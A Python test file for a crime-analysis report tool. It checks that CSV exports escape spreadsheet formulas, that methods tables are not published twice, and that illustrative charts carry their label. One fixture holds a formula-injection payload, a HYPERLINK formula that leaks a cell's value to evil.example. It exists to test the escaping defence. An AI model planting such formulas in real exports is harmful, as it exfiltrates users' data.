"""What a report publishes: its tables as CSV files a spreadsheet opens safely."""

from __future__ import annotations

import csv
import io

import pandas as pd

from safer_analysis.present.publication import Report


def test_a_report_writes_no_cell_a_spreadsheet_would_run_into_its_csv(tmp_path):
    frame = pd.DataFrame(
        {
            "project": ['=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "@SUM(1)", "Street pastors"],
            "rank": ["=2 of 8", "1 of 8", "3 of 8"],
            "change_pct": [-7.5, 1.25, -0.5],
            "label": ["-5%", "+14.7%", "+1+1"],
        }
    )
    report = Report("allocation_rationale", "2018-19", "Plymouth", output_dir=tmp_path)
    page = report.table(frame, "alignment", "Lines").data
    assert "=2 of 8" in page and "&#x27;=2 of 8" not in page  # the page shows the text as it is
    text = (tmp_path / "tables" / "allocation_rationale__alignment.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1:] == [
        ['\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "'=2 of 8", "-7.5", "-5%"],
        ["'@SUM(1)", "1 of 8", "1.25", "+14.7%"],
        ["Street pastors", "3 of 8", "-0.5", "'+1+1"],
    ]
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "@")), cell


def test_a_methods_table_is_shown_in_a_methods_block_and_not_published_twice(tmp_path):
    """The trend's tests sit in a details block marked as methods, which the plain-English
    checks leave aside; their figures are already in the board table's CSV, so no second file."""
    from safer_analysis.present import plain_english

    report = Report("strategic_assessment", "2018-19", "Plymouth", output_dir=tmp_path)
    tests = pd.DataFrame({"crime_type": ["Burglary"], "p_adjusted": [0.41]})
    block = report.methods(
        "Methods: how each trend was tested",
        report.table(tests, "trend_tests", "Trend tests", headers={"p_adjusted": "p-value"}, publish=False),
    ).data
    assert block.startswith('<details class="sa-details sa-methods">')
    assert not (tmp_path / "tables").exists() and report.tables == []
    passages = plain_english.passages(f"<h2>Trend</h2><p>Burglary: no trend.</p>{block}")
    assert [p.text for p in passages if not p.methods] == ["Trend", "Burglary: no trend."]
    assert "p-value" in [p.text for p in passages if p.methods]


def test_a_chart_on_illustrative_inputs_says_so_inside_the_image():
    """The mark is drawn in the figure (its title), so it travels with the picture, at both widths."""
    import base64
    import io

    import pandas as pd
    from PIL import Image

    from safer_analysis.present import money_charts
    from safer_analysis.present.charts import NARROW_WIDTH

    money = pd.DataFrame({"amount_alone": [215_200.0, 0.0], "amount_shared": [30_000.0, 30_000.0]})
    words = "ILLUSTRATIVE ORDER: ranked on illustrative scores"
    chart = money_charts.priority_money_chart(
        money, labels=["A", "B"], title="t", subtitle="s", source="src", what="w", illustrative=words
    )
    ax = chart.figure.axes[0]
    assert words in chart.figure.get_suptitle().replace("\n", " ")
    labels = [t.get_text() for t in ax.texts]
    assert [t.replace("\n", " ") for t in labels] == [
        "£215,200 + £30,000 shared",
        "£30,000 shared",
    ]  # whole lines; no '£0 +'
    assert words in chart.alt
    narrow = Image.open(io.BytesIO(base64.b64decode(chart.narrow_png_base64())))
    assert words in chart.figure.get_suptitle().replace("\n", " ")  # at phone width too
    assert narrow.size[0] <= NARROW_WIDTH * 110 * 1.1  # the mark does not widen the phone layout
    plain = money_charts.priority_money_chart(money, labels=["A", "B"], title="t", subtitle="s", source="src", what="w")
    assert "ILLUSTRATIVE" not in plain.figure.get_suptitle()
